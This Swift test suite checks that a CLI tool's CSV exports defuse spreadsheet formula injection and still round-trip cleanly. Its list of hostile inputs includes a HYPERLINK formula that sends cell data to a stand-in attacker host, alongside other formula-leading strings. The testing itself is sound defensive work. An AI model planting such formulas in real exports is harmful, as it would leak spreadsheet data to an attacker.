import CSVReader
import Foundation
import Testing
@testable import TuanjuCLI

/// Every CSV the tool writes goes through `CSVWriter`: a text field that starts like a spreadsheet formula gets
/// a `'`, numbers stay numbers, and the map importer reads its own export back unchanged.
@Suite("CSV exports are formula-safe")
struct CSVExportSafetyTests {
    /// What an attacker types into a note, a name or an address (some are cleaned on the way in: control
    /// characters go; what is stored is what the export must defuse).
    static let hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1",
        "say \"hi\", then=1", "a,b", "two\nlines", "'=typed with a quote",
    ]

    static func rows(_ text: String) throws -> [[String]] {
        let reader = CSVReader(bytes: Array(text.utf8))
        var rows: [[String]] = []
        while let item = try reader.next() {
            guard case .record(let record) = item else { Issue.record("unreadable CSV: \(item)"); continue }
            rows.append(record.fields)
        }
        return rows
    }

    /// No field of `row` starts like a formula except the numeric `columns`, which must be plain numbers.
    static func expectDefused(_ row: [String], numeric: Set<Int> = [], sourceLocation: SourceLocation = #_sourceLocation) {
        for (index, field) in row.enumerated() {
            guard let first = field.unicodeScalars.first else { continue }
            if numeric.contains(index) {
                #expect(Double(field) != nil, "column \(index): \(field.debugDescription)", sourceLocation: sourceLocation)
            } else {
                #expect(!"=+-@\t\r".unicodeScalars.contains(first), "column \(index): \(field.debugDescription)",
                        sourceLocation: sourceLocation)
            }
        }
    }

    @Test("reports export --format csv defuses notes and status notes; lat and long stay numbers")
    // (Reports must lie in the service area, so negative coordinates are the map export's test.)
    func reportsExport() throws {
        let setup = try ReportsTests.Setup()
        var notes: [String: String] = [:]
        for (index, text) in Self.hostile.enumerated() {
            let photo = try setup.photo("p\(index).jpg", lat: 30.2925 + Double(index) / 10_000, seed: UInt64(index + 1))
            let result = setup.submit(0, ["--category", "manhole-cover", "--note=\(text)"], photos: [photo])
            try #require(result.exit == 0, "\(text.debugDescription): \(result.stderr)")
            let id = try result.object()["id"] as! String
            _ = try setup.sandbox.ok(["reports", "review", id, "--accept", "--note=\(text)"], token: setup.coordinator)
            notes[id] = try setup.sandbox.ok(["reports", "show", id], token: setup.coordinator)["note"] as? String
        }
        let result = setup.sandbox.run(["reports", "export", "--format", "csv"], token: setup.coordinator)
        try #require(result.exit == 0, "\(result.stderr)")
        let rows = try Self.rows(result.stdout)
        let header = try #require(rows.first)
        let column = { (name: String) in header.firstIndex(of: name)! }
        #expect(rows.count == 1 + Self.hostile.count)
        for row in rows.dropFirst() {
            Self.expectDefused(row, numeric: [column("lat"), column("long")])
            let id = row[column("service_request_id")]
            #expect(CSVWriter.unguarded(row[column("description")]) == notes[id] ?? "")
            #expect(Double(row[column("long")]).map { abs($0 - 120.171) < 0.001 } == true)
        }
        #expect(result.stdout.contains("'=HYPERLINK"))
    }

    @Test("map export --format csv defuses names, addresses and contacts; imports back unchanged, elsewhere too")
    func mapExportRoundTrip() throws {
        let sandbox = try Sandbox()
        let coordinator = try sandbox.coordinator()
        var names: [String: String] = [:]
        for (index, text) in Self.hostile.enumerated() {
            let point = try sandbox.ok([
                "map", "add", "--kind", "station", "--name=\(text)", "--address=\(text)", "--contact=\(text)",
                "--lat=-33.4\(index)", "--lon=-70.6\(index)", "--external-id", "hx-\(index)",
            ], token: coordinator)
            names["hx-\(index)"] = point["name"] as? String
        }
        let path = sandbox.root + "/export.csv"
        #expect(sandbox.run(["map", "export", "--format", "csv", "--kind", "station", "--output", path]).exit == 0)
        let rows = try Self.rows(try String(contentsOfFile: path, encoding: .utf8))
        let header = try #require(rows.first)
        let (lat, lon) = (header.firstIndex(of: "lat")!, header.firstIndex(of: "lon")!)
        var seen = 0
        for row in rows.dropFirst() {
            Self.expectDefused(row, numeric: [lat, lon])
            guard let name = names[row[1]] else { continue }
            seen += 1
            #expect(CSVWriter.unguarded(row[3]) == name)
            #expect(row[lon].hasPrefix("-70.6") && row[lat].hasPrefix("-33.4"))
        }
        #expect(seen == Self.hostile.count)
        // Imported again: every point unchanged
        let again = try sandbox.ok(["map", "import", path], token: coordinator)
        #expect(again["updated"] as? Int == 0 && again["skipped"] as? Int == 0)
        // Imported into another installation: the same names, quote marks and all
        let other = try Sandbox()
        _ = try other.ok(["map", "import", path], token: try other.coordinator())
        let exported = other.run(["map", "export", "--format", "geojson", "--kind", "station"]).stdout
        let collection = try JSONSerialization.jsonObject(with: Data(exported.utf8)) as? [String: Any]
        var imported: [String: String] = [:]
        for feature in collection?["features"] as? [[String: Any]] ?? [] {
            let properties = feature["properties"] as? [String: Any] ?? [:]
            if let id = properties["external_id"] as? String { imported[id] = properties["name"] as? String }
        }
        for (externalID, name) in names { #expect(imported[externalID] == name, "\(externalID)") }
    }

    @Test("The fulfilment CSV of redemptions run defuses reward names; quantities stay numbers")
    func fulfilmentReport() throws {
        let setup = try PointsTests.Setup()
        _ = try setup.award(setup.li.id, 10_000)
        var titles: [String: String] = [:]
        for text in Self.hostile {
            let reward = try setup.sandbox.ok(["rewards", "add", "--name=\(text)", "--cost", "1", "--stock", "5"], token: setup.coordinator)
            titles[reward["id"] as! String] = reward["name"] as? String
            _ = try setup.sandbox.ok(["rewards", "redeem", reward["id"] as! String, "--quantity", "2"], token: setup.li.token)
        }
        let batch = try setup.sandbox.ok(["redemptions", "run"], token: setup.coordinator)
        let rows = try Self.rows(try String(contentsOfFile: batch["report"] as! String, encoding: .utf8))
        #expect(rows.first == ["request_id", "rider_id", "phone", "reward_id", "reward", "quantity"])
        #expect(rows.count == 1 + Self.hostile.count)
        for row in rows.dropFirst() {
            Self.expectDefused(row, numeric: [5])
            #expect(CSVWriter.unguarded(row[4]) == titles[row[3]])
            #expect(row[5] == "2")
        }
    }
}
